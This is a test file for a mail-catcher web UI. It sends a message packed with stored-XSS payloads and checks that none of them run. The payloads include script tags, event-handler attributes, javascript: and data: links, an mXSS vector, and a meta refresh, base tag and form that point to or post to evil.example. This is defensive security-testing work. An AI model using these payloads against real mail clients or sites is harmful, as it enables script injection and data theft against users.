import { beforeAll, describe, expect, test } from 'vitest';
import { expectUiBuilt, openUi, row } from '../helpers/browser';
import { start } from '../helpers/pigeonhole';
import { transport } from '../helpers/smtp';

/**
 * Mail is hostile. Every trick below has run script in some mail catcher's UI (stored XSS was the
 * class of Mailpit's and MailDev's advisories); here none may change anything in the UI's page: no
 * dialog, no global set, no navigation, and the markup in names shows as text.
 */

beforeAll(expectUiBuilt);

const HOSTILE_HTML = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<script>try{top.__pwned='head script'}catch(e){} alert('head script')</script>
<style>@import url(javascript:top.__pwned='css import');</style>
</head>
<body onload="top.__pwned='onload';alert('onload')">
<p id="visible">Visible text survives</p>
<img src="x" onerror="top.__pwned='onerror';alert('onerror')">
<a id="js-link" href="javascript:top.__pwned='js link';alert('js link')">click me</a>
<a id="data-link" href="data:text/html,<script>alert('data link')</script>">data link</a>
<form id="steal" action="https://evil.example/steal" method="post"><input name="q" value="secret"><button id="submit">Send</button></form>
<svg width="40" height="40"><script>top.__pwned='svg script'</script><a href="javascript:alert('svg link')"><text y="20">svg link</text></a>
<animate onbegin="top.__pwned='smil';alert('smil')" attributeName="x" dur="1s"/></svg>
<iframe src="javascript:top.__pwned='iframe'"></iframe>
<object data="javascript:top.__pwned='object'"></object>
<embed src="javascript:top.__pwned='embed'">
<div style="background:url(javascript:top.__pwned='css url')">styled</div>
<math><mtext><table><mglyph><style><img src=x onerror="top.__pwned='mxss';alert('mxss')"></style></mglyph></table></mtext></math>
<details open ontoggle="top.__pwned='ontoggle';alert('ontoggle')"><summary>more</summary></details>
<input autofocus onfocus="top.__pwned='onfocus';alert('onfocus')">
</body></html>`;

const HOSTILE_NAME = "<img src=x onerror=\"top.__pwned='name';alert('name')\">";

describe('hostile mail', () => {
  test('script, handlers, javascript: links, meta refresh, a form and SVG script change nothing in the UI', async () => {
    const p = await start();
    await transport(p).sendMail({
      from: { name: HOSTILE_NAME, address: 'evil@example.test' },
      to: 'victim@example.test',
      subject: `Hostile ${HOSTILE_NAME}`,
      text: `<script>top.__pwned='text part'</script> plain ${HOSTILE_NAME}`,
      html: HOSTILE_HTML,
      attachments: [
        { filename: `<b onmouseover="alert('file')">bold</b>.txt`, content: 'x', contentType: 'text/html' },
      ],
    });
    const ui = await openUi(p.httpUrl);
    const { page } = ui;
    const startUrl = page.url();

    // The subject and sender are shown as the text they are.
    const hostile = row(page, /Hostile/);
    await hostile.waitFor();
    expect(await hostile.textContent()).toContain(`Hostile ${HOSTILE_NAME}`);
    expect(await hostile.locator('img').count()).toBe(0);

    await hostile.click();
    await page.getByRole('heading', { name: `Hostile ${HOSTILE_NAME}` }).waitFor();
    const frame = page.frameLocator('iframe[title="HTML body of the message"]');
    await frame.locator('#visible').waitFor();
    expect(await page.getByRole('article').locator('header img').count()).toBe(0);
    await page.getByText(`<b onmouseover="alert('file')">bold</b>.txt`, { exact: true }).waitFor();

    // Poke at everything that could run: links, the (stripped) form, hovering, focus.
    for (const selector of ['#js-link', '#data-link', 'text', 'details summary']) {
      const target = frame.locator(selector);
      if ((await target.count()) > 0)
        await target
          .first()
          .click({ force: true, timeout: 2000 })
          .catch(() => undefined);
    }
    expect(
      await frame.locator('form, input, button, script, iframe, object, embed, meta[http-equiv="refresh"]').count(),
    ).toBe(0);
    expect(
      await frame.locator('[onload], [onerror], [onbegin], [ontoggle], [onfocus], a[href^="javascript"]').count(),
    ).toBe(0);

    // Every tab renders the hostile parts as text.
    for (const name of ['Text', 'Headers', 'Source', 'MIME', 'SMTP session', 'HTML']) {
      await page.getByRole('tab', { name }).click();
      await page.getByRole('tabpanel').waitFor();
    }
    await page.getByRole('tab', { name: 'Text' }).click();
    await expect
      .poll(() => page.getByRole('tabpanel').textContent())
      .toContain("<script>top.__pwned='text part'</script>");
    await page.getByRole('tab', { name: 'HTML' }).click();
    await frame.locator('#visible').waitFor();
    // Give a meta refresh (0 s) and any timer every chance to fire.
    await page.waitForTimeout(1500);

    expect(ui.dialogs).toEqual([]);
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(ui.navigations).toEqual([]);
    expect(new URL(page.url()).origin).toBe(new URL(startUrl).origin);
    expect(new URL(page.url()).pathname).toBe('/');
    // The frame stays on the message: the meta refresh did not take it to evil.example.
    expect(await frame.locator('#visible').textContent()).toBe('Visible text survives');
    expect(page.frames().some((f) => f.url().includes('evil.example'))).toBe(false);
    // Chromium logs each handler and <base> its CSP refused, as an error, even while DOMPurify's
    // inert parse reads them: those reports are the defence at work. Anything else is a failure.
    const refused = /violates the following Content Security Policy directive|Blocked script execution/;
    expect(ui.errors.filter((e) => !refused.test(e))).toEqual([]);
  });
});
